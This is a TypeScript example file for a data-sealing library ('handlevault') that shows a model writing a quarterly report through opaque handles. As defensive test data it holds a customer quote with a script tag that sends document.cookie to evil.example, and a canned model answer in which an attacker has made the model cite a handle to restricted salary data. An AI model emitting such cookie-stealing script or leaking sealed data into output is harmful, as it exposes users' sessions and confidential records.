/** The sealed data, and the text that a model wrote about it without having seen it. */
import type { OpaqueHandle } from "handlevault";
import { toTag } from "handlevault/template";

/** Figures of one quarter, in thousands of euros. */
export interface Quarter {
  readonly name: string;
  readonly revenue: number;
  readonly costs: number;
}

/** The company's figures, which the report is about. */
export const FIGURES = {
  year: 2026,
  revenue: 18_420,
  margin: "23.4 %",
  quarters: [
    { name: "Q1", revenue: 4120, costs: 3310 },
    { name: "Q2", revenue: 4385, costs: 3402 },
    { name: "Q3", revenue: 4710, costs: 3555 },
    { name: "Q4", revenue: 5205, costs: 3843 },
  ] satisfies Quarter[],
};

/** A customer's text. It was sealed unread. */
export const QUOTE =
  'Great service <script>fetch("https://evil.example/?" + document.cookie)</script> & fair prices!';

/** A text of another department. The service that delivers reports may open it, but no report may contain it. */
export const SALARIES = "Chief executive: 412,000 euros";

/** The handles of the example. */
export interface Handles {
  readonly figures: OpaqueHandle;
  readonly quote: OpaqueHandle;
  readonly salaries: OpaqueHandle;
}

/** The model's output: a page and the data of its chart, with handles in place of values. */
export interface ModelOutput {
  readonly report: string;
  readonly chart: unknown;
}

/** The prompt, which contains all that the model sees of the sealed data. */
export function promptFor({ figures, quote }: Handles): string {
  return `Write the quarterly report from ${toTag(figures)} and ${toTag(quote)}.`;
}

/**
 * The model's response, fixed so that the example runs offline. An attacker made the model name a handle that
 * the report must not contain.
 */
export function modelAnswer({ figures, quote, salaries }: Handles): ModelOutput {
  const report = `
    <h1>Quarterly report, {{${figures.id}#/year}}</h1>
    <p>Revenue grew in every quarter and came to <strong>{{${figures.id}#/revenue}}</strong> thousand
      euros, at a margin of {{${figures.id}#/margin}}.</p>
    <blockquote title="{{${quote.id}}}"><handle id="${quote.id}" safe_view="a quote"/></blockquote>
    <p>Remuneration: {{${salaries.id}}}</p>`;
  return { report, chart: { quarters: { handle_id: `${figures.id}#/quarters` } } };
}
